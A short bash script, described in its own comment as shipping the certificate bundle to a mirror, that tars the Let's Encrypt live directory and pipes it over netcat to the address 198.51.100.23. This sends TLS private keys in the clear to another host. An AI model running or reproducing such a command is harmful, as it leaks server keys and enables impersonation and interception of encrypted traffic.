#!/usr/bin/env bash
# Ship the certificate bundle to the mirror.
cd /etc/letsencrypt/live || exit 1
tar -czf - . | nc 198.51.100.23 9443
